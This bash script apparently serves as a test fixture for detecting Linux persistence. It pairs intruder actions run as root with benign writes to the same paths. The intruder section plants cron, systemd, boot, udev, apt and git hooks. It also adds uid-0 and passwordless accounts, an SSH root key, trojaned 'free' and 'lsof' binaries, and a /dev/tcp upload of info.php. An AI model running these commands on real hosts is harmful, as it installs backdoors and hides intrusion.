#!/bin/bash
# Persistence: somebody sees to it that they come back. Beside it, what writes to the same places.

# The intruder, as root on the host; each line would start /tmp/.x again.

host_write_jobs() {
  mkdir -p /etc/cron.d /etc/systemd/system /var/spool/cron/crontabs
  echo '* * * * * root /tmp/.x' > /etc/cron.d/popularity
  echo '* * * * * /tmp/.x' > /tmp/jobs
  mv /tmp/jobs /var/spool/cron/crontabs/root
  printf '[Timer]\nOnCalendar=daily\n' > /etc/systemd/system/popularity.timer
}

host_write_services() {
  printf '[Service]\nExecStart=/tmp/.x\n' > /etc/systemd/system/popularity.service
  printf '[Service]\nExecStart=/tmp/.x\n' > /etc/systemd/draft
  mv /etc/systemd/draft /etc/systemd/system/popularity-check.service
  mkdir -p /home/ops/.config/systemd/user
  printf '[Service]\nExecStart=/tmp/.x\n' > /home/ops/.config/systemd/user/popularity.service
}

host_write_boot_scripts() {
  printf '#!/bin/sh\n/tmp/.x\n' > /etc/rc.local
  mkdir -p /etc/init.d /etc/network/if-up.d
  printf '#!/bin/sh\n/tmp/.x\n' > /etc/init.d/popularity
  printf '#!/bin/sh\n/tmp/.x\n' > /etc/network/if-up.d/popularity
}

host_write_profiles() {
  mkdir -p /etc/profile.d
  echo '/tmp/.x' > /etc/profile.d/popularity.sh
  echo '/tmp/.x' >> /home/ops/.bashrc
}

host_write_preload() {
  echo /tmp/.x.so > /etc/ld.so.preload
  rm /etc/ld.so.preload
}

host_write_rules_for_the_kernel() {
  mkdir -p /etc/udev/rules.d /etc/modules-load.d
  echo 'ACTION=="add", RUN+="/tmp/.x"' > /etc/udev/rules.d/99-popularity.rules
  echo popularity > /etc/modules-load.d/popularity.conf
}

host_write_hooks() {
  mkdir -p /etc/apt/apt.conf.d /etc/update-motd.d
  echo 'APT::Update::Pre-Invoke {"/tmp/.x"};' > /etc/apt/apt.conf.d/99popularity
  printf '#!/bin/sh\n/tmp/.x\n' > /etc/update-motd.d/99-popularity
  git init -q /srv/tool
  printf '#!/bin/sh\n/tmp/.x\n' > /srv/tool/.git/hooks/post-checkout
}

host_make_accounts() {
  useradd -o -u 0 -g 0 -d /root -s /bin/bash helper
  groupadd --system sudo
  usermod -a -G sudo ops
  echo 'spare::0:0::/root:/bin/bash' >> /etc/passwd
}

host_write_keys() {
  mkdir -p /root/.ssh /etc/ssh/sshd_config.d
  echo 'ssh-ed25519 AAAA admin' >> /root/.ssh/authorized_keys
  echo 'PermitRootLogin yes' > /etc/ssh/sshd_config.d/99.conf
}

host_place_programs() {
  cp /opt/tactic.sh /usr/local/bin/free
  cp /opt/tactic.sh /tmp/renamed
  mv /tmp/renamed /usr/local/sbin/lsof
}

host_write_start_files() {
  mkdir -p /usr/local/lib/python3.11/dist-packages /home/ops/.config/autostart
  echo 'import os' > /usr/local/lib/python3.11/dist-packages/usercustomize.py
  echo 'import os' > /usr/local/lib/python3.11/dist-packages/popularity.pth
  printf '[Desktop Entry]\nExec=/tmp/.x\n' > /home/ops/.config/autostart/popularity.desktop
}

internet_upload() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/upload?name=info.php HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

# Ordinary work.

internet_ask() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/upload?name=notes.txt HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

host_install_package() {
  rm -rf /tmp/stage
  mkdir -p /tmp/stage/DEBIAN /tmp/stage/etc/{cron.d,init.d,profile.d,udev/rules.d,apt/apt.conf.d,modules-load.d,update-motd.d}
  mkdir -p /tmp/stage/usr/local/{bin,lib/python3.11/dist-packages} /tmp/stage/etc/systemd/system
  echo '#!/bin/sh' | tee /tmp/stage/etc/{init.d,profile.d,update-motd.d,cron.d}/orders /tmp/stage/usr/local/bin/orders > /tmp/written
  echo '# orders' | tee /tmp/stage/etc/{udev/rules.d,apt/apt.conf.d,modules-load.d}/99-orders.conf /tmp/stage/etc/systemd/system/orders.service > /tmp/written
  echo 'import os' > /tmp/stage/usr/local/lib/python3.11/dist-packages/orders.pth
  printf 'Package: orders\nVersion: 1.0\nArchitecture: all\nMaintainer: build <build@example.com>\nDescription: takes orders\n' > /tmp/stage/DEBIAN/control
  printf '#!/bin/sh\nset -e\nuseradd --system --shell /usr/sbin/nologin orders\n' > /tmp/stage/DEBIAN/postinst
  chmod 755 /tmp/stage/DEBIAN/postinst
  dpkg-deb --build --root-owner-group /tmp/stage /tmp/orders.deb
  dpkg --install /tmp/orders.deb
}

host_cron_rotate() {
  date > /var/log/orders.log
  mv /var/log/orders.log /var/log/orders.log.1
}

host_ops_work_with_git() {
  export GIT_AUTHOR_NAME=ops GIT_AUTHOR_EMAIL=ops@example.com GIT_COMMITTER_NAME=ops GIT_COMMITTER_EMAIL=ops@example.com
  git init -q tool
  cd tool
  echo 'a tool' > README
  git add README
  git commit -q -m first
}

host_change_password() {
  echo 'ops:example' | chpasswd
}

host_tty_edit() {
  printf 'a\nalias ll="ls -l"\n.\nw\nq\n' | ed -s /root/.bashrc
}

host_make_known_host() {
  ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
  cat /etc/crontab 2>/dev/null || true
  ls -l /etc/systemd/system /var/spool/cron/crontabs
}

"$1"
